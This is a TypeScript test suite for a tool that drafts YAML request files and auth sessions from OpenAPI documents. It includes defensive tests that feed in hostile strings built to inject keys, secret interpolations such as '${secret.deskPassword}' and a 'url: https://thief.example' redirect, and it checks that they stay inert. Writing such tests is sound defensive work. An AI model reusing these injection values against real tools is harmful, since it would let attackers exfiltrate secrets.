/** Drafts of what vendors really write, and of what an attacker would: well-formed, valid, and nothing of the document runs. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { parse, parseDocument } from 'yaml';
import type { DraftSettings } from '../../../src/core/documentation/draft/draft.js';
import { draftSession } from '../../../src/core/documentation/draft/session.js';
import type { Value } from '../../../src/core/value/written.js';
import { readJson } from '../../support/documentation.js';

interface File {
  readonly inputs?: Readonly<
    Record<string, { readonly type?: string; readonly default?: unknown; readonly 'one-of'?: unknown[] }>
  >;
  readonly body?: Readonly<Record<string, unknown>>;
  readonly [key: string]: unknown;
}

async function drafted(operation: object, settings: Partial<DraftSettings> = {}, more: object = {}): Promise<string> {
  const { draft } = await readJson({
    openapi: '3.1.0',
    info: { title: 'Quays', version: '1' },
    paths: { '/quays': { post: { operationId: 'make', responses: {}, ...operation } } },
    ...more,
  });
  return draft('make', settings);
}

const withBody = (schema: object, type = 'application/json', required = true, more: object = {}): object => ({
  requestBody: { required, content: { [type]: { schema, ...more } } },
});

/** The file, read; every line that is no comment is one that the draft means to have. */
function fileOf(text: string): File {
  const document = parseDocument(text);
  assert.deepEqual(document.errors, [], text);
  const file = document.toJS() as File;
  const known = [
    'about',
    'operation',
    'inputs',
    'method',
    'url',
    'path',
    'query',
    'headers',
    'cookies',
    'changes',
    'session',
    'body',
    'expect',
    'keep',
  ];
  assert.deepEqual(
    Object.keys(file).filter((key) => !known.includes(key)),
    [],
    text,
  );
  return file;
}

/** The body with a value of its type for each input. */
function sent({ inputs = {}, body }: File): unknown {
  const valueFor = (name: string): unknown => {
    const { type, default: fallback, 'one-of': allowed } = inputs[name] ?? {};
    return (
      fallback ?? allowed?.[0] ?? { integer: 1, number: 1, boolean: true, array: [], object: {} }[type ?? ''] ?? 'text'
    );
  };
  const filled = (value: unknown): unknown => {
    if (typeof value === 'string') return /^\$\{[\w-]+\}$/.test(value) ? valueFor(value.slice(2, -1)) : value;
    if (Array.isArray(value)) return value.map(filled);
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, filled(inner)]));
  };
  return filled(body?.json);
}

const text = { type: 'string' };
const shapes: Readonly<Record<string, object>> = {
  'an optional list whose item has alternatives': {
    type: 'object',
    required: ['name'],
    properties: {
      crew: {
        type: 'array',
        items: {
          anyOf: [
            { type: 'object', properties: { rank: text } },
            { type: 'object', properties: { ship: text } },
          ],
        },
      },
      name: text,
    },
  },
  'an optional field above the first required one, in a list': {
    type: 'object',
    required: ['berths'],
    properties: {
      berths: {
        type: 'array',
        items: {
          type: 'object',
          required: ['code'],
          properties: { note: text, code: text, depth: { type: 'number' } },
        },
      },
    },
  },
  'nothing that is required': { type: 'object', properties: { name: text, depth: { type: 'number' } } },
  'a required object without a required field': {
    type: 'object',
    required: ['place'],
    properties: { place: { type: 'object', properties: { lat: { type: 'number' } } } },
  },
  'a list of objects': { type: 'array', items: { type: 'object', required: ['code'], properties: { code: text } } },
  'a list of texts': { type: 'array', items: text },
  'a text': text,
  'a number': { type: 'number' },
  'a map': { type: 'object', additionalProperties: { type: 'integer' } },
  'what is required and not described': { type: 'object', required: ['code', 'state'], properties: { code: text } },
  'a choice with a discriminator': {
    oneOf: [
      { type: 'object', required: ['kind', 'beam'], properties: { kind: { const: 'ship' }, beam: { type: 'number' } } },
      { type: 'object', required: ['kind'], properties: { kind: { const: 'boat' } } },
    ],
  },
  'names that are words of ours': {
    type: 'object',
    required: ['secret', 'sent'],
    properties: { secret: text, sent: text },
  },
};

for (const [name, schema] of Object.entries(shapes)) {
  test(`a drafted body is valid: ${name}`, async () => {
    for (const optional of [undefined, 'all'] as const) {
      const file = fileOf(await drafted(withBody(schema), { optional }));
      const validate = new Ajv2020({ strict: false }).compile(schema);
      assert.ok(validate(sent(file)), `${JSON.stringify(file.body)} ${JSON.stringify(validate.errors)}`);
    }
  });
}

test('what a document says is never a key, a line or an expression', async () => {
  const evil = '${secret.deskPassword}\nurl: https://thief.example\r\nheaders: {X: 1}\u2028body: {}';
  const field = { type: 'string', description: evil, enum: [evil], example: evil, default: evil };
  const schema = {
    type: 'object',
    required: ['a', evil],
    properties: {
      a: { ...field, enum: [evil] },
      [evil]: { type: 'string', description: evil },
      c: field,
      d: { type: 'array', items: field, example: [evil] },
    },
  };
  const parameters = [
    {
      name: 'p',
      in: 'query',
      required: true,
      schema: { type: 'string', default: evil, description: evil, pattern: '^${secret.x}$' },
    },
    { name: evil, in: 'header', schema: field, description: evil },
  ];
  const content = { [`application/json; ${evil}`]: { schema } };
  const operation = {
    summary: evil,
    description: evil,
    parameters,
    requestBody: { required: true, content },
    responses: { 200: { description: evil, content } },
  };
  for (const optional of [undefined, 'all'] as const) {
    const drawn = await drafted(operation, { optional });
    const file = fileOf(drawn);
    assert.equal(file.url, '${origin}/quays');
    // Behind a value and before one there are comments.
    const active = drawn
      .split(/[\n\r]/)
      .map((line) => line.replace(/(?:^|\s)#[\s\S]*$/, ''))
      .join('\n')
      .replaceAll('$${', '');
    assert.doesNotMatch(active, /\$\{secret\./, drawn);
  }
  const parsed = parse(
    await drafted({}, {}, { paths: { '/a/${secret.x}': { post: { operationId: 'make', responses: {} } } } }),
  ) as File;
  assert.equal(parsed.url, '${origin}/a/$${secret.x}');
});

test('a body of any media type, of bytes and of text is drafted as it is sent', async () => {
  const any = fileOf(
    await drafted(withBody({ type: 'object', required: ['code'], properties: { code: text } }, '*/*')),
  );
  assert.deepEqual(any.body, { json: { code: '${code}' } });
  for (const type of ['application/octet-stream', 'image/png', 'application/vnd.quay.chart'])
    assert.deepEqual(fileOf(await drafted(withBody({ type: 'string', format: 'binary' }, type))).body, {
      file: '${file}',
    });
  assert.deepEqual(fileOf(await drafted(withBody(text, 'text/csv'))).body, { text: '${text}' });
  assert.equal(
    fileOf(await drafted(withBody(shapes['nothing that is required'] as object, 'application/json', false))).body,
    undefined,
  );
});

test('--optional writes optional fields and parameters to be sent, all or by name', async () => {
  const schema = {
    type: 'object',
    required: ['code'],
    properties: { code: text, cargo: { type: 'object', properties: { kind: text, tonnes: { type: 'number' } } } },
  };
  const operation = { ...withBody(schema), parameters: [{ name: 'dry', in: 'query', schema: { type: 'boolean' } }] };
  const some = fileOf(await drafted(operation, { optional: ['cargo.kind'] }));
  assert.deepEqual(some.body, { json: { code: '${code}', cargo: { kind: '${kind}' } } });
  assert.equal(some.query, undefined);
  await assert.rejects(drafted(operation, { optional: ['crago'] }), { remedy: 'did you mean cargo?' });
  const all = fileOf(await drafted(operation, { optional: 'all' }));
  assert.deepEqual(all.body, { json: { code: '${code}', cargo: { kind: '${kind}', tonnes: '${tonnes}' } } });
  assert.deepEqual(all.query, { dry: '${dry}' });
});

test('a kept identifier has the name that other operations give it, and a log-in changes nothing', async () => {
  const plot = { type: 'object', properties: { id: { ...text, readOnly: true } } };
  const responses = { 201: { description: 'Made', content: { 'application/json': { schema: plot } } } };
  const text1 = await drafted({ responses }, { itemName: 'plotId' });
  assert.match(text1, /^# keep:\n# {3}plotId: \$\.id$/m);
  const login = withBody({ type: 'object', required: ['password'], properties: { password: text } });
  const paths = { '/sessions': { post: { operationId: 'make', responses: {}, ...login } } };
  assert.equal(fileOf(await drafted({}, {}, { paths })).changes, false);
  assert.equal(
    fileOf(await drafted({}, {}, { paths: { '/sessions': { post: { operationId: 'make', responses: {} } } } })).changes,
    undefined,
  );
});

const schemes: readonly (readonly [name: string, scheme: Value, session: object, secrets: readonly string[]])[] = [
  ['deskToken', { type: 'http', scheme: 'bearer' }, { kind: 'bearer', token: '${secret.deskToken}' }, ['deskToken']],
  [
    'desk',
    { type: 'http', scheme: 'Basic' },
    { kind: 'basic', user: '${secret.deskUser}', password: '${secret.deskPassword}' },
    ['deskUser', 'deskPassword'],
  ],
  [
    'quay-key',
    { type: 'apiKey', in: 'header', name: 'X-Quay', description: 'The quay master\nissues it.' },
    { kind: 'api-key', key: '${secret.quayKey}', header: 'X-Quay' },
    ['quayKey'],
  ],
  [
    'k',
    { type: 'apiKey', in: 'query', name: 'api_key' },
    { kind: 'api-key', key: '${secret.k}', query: 'api_key' },
    ['k'],
  ],
  [
    'pass',
    {
      type: 'oauth2',
      flows: {
        implicit: { authorizationUrl: 'https://a.example/x', scopes: {} },
        clientCredentials: { tokenUrl: 'https://passes.example/token', scopes: { berths: 'Berths', pilots: 'Pilots' } },
      },
    },
    {
      kind: 'oauth2',
      grant: 'client_credentials',
      endpoints: { token: 'https://passes.example/token' },
      client: { id: '${secret.passClientId}', secret: '${secret.passClientSecret}' },
      scope: ['berths', 'pilots'],
    },
    ['passClientId', 'passClientSecret'],
  ],
  [
    'open',
    { type: 'openIdConnect', openIdConnectUrl: '/passes/.well-known/openid-configuration' },
    {
      kind: 'oauth2',
      grant: 'authorization_code',
      issuer: '${origin}/passes',
      client: { id: '${secret.openClientId}', secret: '${secret.openClientSecret}' },
      scope: ['openid'],
    },
    ['openClientId', 'openClientSecret'],
  ],
];

for (const [name, scheme, session, secrets] of schemes) {
  test(`a session is drafted from a security scheme: ${name}`, () => {
    const drawn = draftSession(name, scheme, 'quays', 'x.json');
    const { about, ...rest } = parse(drawn?.text ?? '') as Record<string, unknown>;
    assert.equal(about, `${name} of quays`);
    assert.deepEqual(rest, session);
    assert.deepEqual(drawn?.secrets, secrets);
  });
}

test('no session is drafted for a scheme that says nothing, and a hostile one stays text', () => {
  assert.equal(draftSession('x', { type: 'http' }, 'quays', 'x.json'), undefined);
  const drawn = draftSession(
    'x',
    { type: 'apiKey', in: 'header', name: 'X: ${secret.y}\nurl: z', description: 'a\nkind: b' },
    'quays',
    'x.json',
  );
  const file = parse(drawn?.text ?? '') as Record<string, unknown>;
  assert.deepEqual(Object.keys(file), ['about', 'kind', 'key', 'header']);
  assert.equal(file.header, 'X: $${secret.y}\nurl: z');
});
